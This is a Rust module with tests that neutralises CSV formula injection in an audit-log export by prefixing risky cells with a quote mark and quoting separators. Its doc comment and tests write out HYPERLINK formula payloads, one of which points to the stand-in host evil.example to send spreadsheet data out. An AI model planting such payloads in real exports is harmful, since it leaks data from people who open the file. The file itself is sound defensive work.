//! One cell of an audit log's CSV export (`mcpmux audit query --format csv`, the console's
//! export), safe to open in a spreadsheet. Hosts and upstreams choose much of what a record holds
//! (tool names, methods, URIs, a host's name from its JWT), and a spreadsheet evaluates a cell
//! that starts with `=`, `+`, `-` or `@` — or with a tab or a carriage return before one — as a
//! formula: `=HYPERLINK("https://evil.example/?"&A1, "help")` sends the sheet's data away when
//! clicked. Such a cell starts with `'`, as OWASP advises against CSV injection (the spreadsheet
//! then shows the text as written); a plain number (`-32602`, an error code) is not a formula
//! and stays as it is. A cell holding a separator, a quote or a line break (`\n` or `\r`) is
//! quoted (RFC 4180), so a record is always one row.

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as one CSV cell: `'` before what a spreadsheet would evaluate, quoted when it holds a
/// separator, a quote or a line break.
pub fn csv_cell(text: &str) -> String {
    let neutral = match text.starts_with(FORMULA_STARTS) && !is_plain_number(text) {
        true => format!("'{text}"),
        false => text.to_owned(),
    };
    match neutral.contains([',', '"', '\n', '\r']) {
        true => format!("\"{}\"", neutral.replace('"', "\"\"")),
        false => neutral,
    }
}

/// Whether `text` is a decimal number and nothing else (`-32602`, `-1.5`): a spreadsheet reads
/// it as that number, never as a formula.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, fraction]
        .iter()
        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn what_a_spreadsheet_would_evaluate_starts_with_a_quote_mark() {
        for (text, cell) in [
            ("=1+1", "'=1+1"),
            ("+SUM(A1)", "'+SUM(A1)"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"go\")",
                "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\"",
            ),
            ("-", "'-"),
            ("-1e5", "'-1e5"),
        ] {
            assert_eq!(csv_cell(text), cell, "{text:?}");
        }
    }

    #[test]
    fn a_carriage_return_is_quoted_and_plain_text_and_numbers_stay_as_they_are() {
        assert_eq!(csv_cell("\r=1"), "\"'\r=1\"");
        assert_eq!(csv_cell("a\rb"), "\"a\rb\"");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        for plain in ["tools/call", "a__echo", "", "-32602", "-1.5", "12", "x=1"] {
            assert_eq!(csv_cell(plain), plain);
        }
    }
}
